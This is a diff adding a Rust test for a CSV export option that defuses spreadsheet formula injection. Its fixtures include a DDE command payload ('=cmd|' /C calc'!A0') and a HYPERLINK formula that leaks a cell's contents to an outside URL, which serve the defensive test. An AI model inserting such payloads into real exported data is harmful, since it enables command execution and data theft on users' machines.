@@ -188,3 +188,72 @@ fn no_columns_write_nothing_and_a_schema_naming_no_feature_is_said() {
     let e = dir.tfr(&["to-csv", "--schema", &no_features, &cut]).run().fails(2);
     assert!(e.contains("cut.tfrecord"), "{e}");
 }
+
+/// Issue 41: text a spreadsheet takes for a formula. By default the cells
+/// are the dataset's text as it is; `--safe-spreadsheet` puts a `'` before
+/// a text cell or feature name beginning with `=`, `+`, `-`, `@`, a tab, a
+/// carriage return or a NUL, and leaves numbers (`-3`, `-0.5`,
+/// `-Infinity`), lists and other text alone.
+#[test]
+fn formulas_are_neutralised_for_a_spreadsheet_numbers_kept() {
+    let dir = Dir::new();
+    let lines = concat!(
+        r#"{"=cmd|' /C calc'!A0": ["x"], "t": ["=HYPERLINK(\"http://e/?\"&A1,\"x\")"], "i": [-3], "f": [-0.5]}"#,
+        "\n",
+        r#"{"t": ["+1"], "i": [4], "f": {"float_list": ["-Infinity"]}, "l": ["=a", "-b"]}"#,
+        "\n",
+        r#"{"t": ["-2"]}"#,
+        "\n",
+        r#"{"t": ["@SUM(A1)"]}"#,
+        "\n",
+        r#"{"t": ["\tx"]}"#,
+        "\n",
+        r#"{"t": ["\r=x"]}"#,
+        "\n",
+        r#"{"t": ["\u0000=x"]}"#,
+        "\n",
+        r#"{"t": ["a=b -c 'd"]}"#,
+        "\n",
+        r#"{"t": [""]}"#,
+        "\n",
+    );
+    let input = from_lines(&dir, "f.tfrecord", lines);
+    let plain = dir.tfr(&["to-csv", &input]).run().ok();
+    let safe = dir.tfr(&["to-csv", "--safe-spreadsheet", &input]).run().ok();
+    let want_plain = "=cmd|' /C calc'!A0,f,i,l,t\n\
+        x,-0.5,-3,,\"=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\"\n\
+        ,-Infinity,4,\"[\"\"=a\"\",\"\"-b\"\"]\",+1\n\
+        ,,,,-2\n\
+        ,,,,@SUM(A1)\n\
+        ,,,,\tx\n\
+        ,,,,\"\r=x\"\n\
+        ,,,,\0=x\n\
+        ,,,,a=b -c 'd\n\
+        ,,,,\n";
+    assert_eq!(plain, want_plain);
+    let want_safe = "'=cmd|' /C calc'!A0,f,i,l,t\n\
+        x,-0.5,-3,,\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\"\n\
+        ,-Infinity,4,\"[\"\"=a\"\",\"\"-b\"\"]\",'+1\n\
+        ,,,,'-2\n\
+        ,,,,'@SUM(A1)\n\
+        ,,,,'\tx\n\
+        ,,,,\"'\r=x\"\n\
+        ,,,,'\0=x\n\
+        ,,,,a=b -c 'd\n\
+        ,,,,\n";
+    assert_eq!(safe, want_safe);
+    // Through -o, and the same for any -j.
+    let out = dir.path("out.csv");
+    dir.tfr(&[
+        "to-csv",
+        "--safe-spreadsheet",
+        "-j",
+        "3",
+        &input,
+        "-o",
+        out.to_str().unwrap(),
+    ])
+    .run()
+    .ok();
+    assert_eq!(std::fs::read_to_string(&out).unwrap(), want_safe);
+}
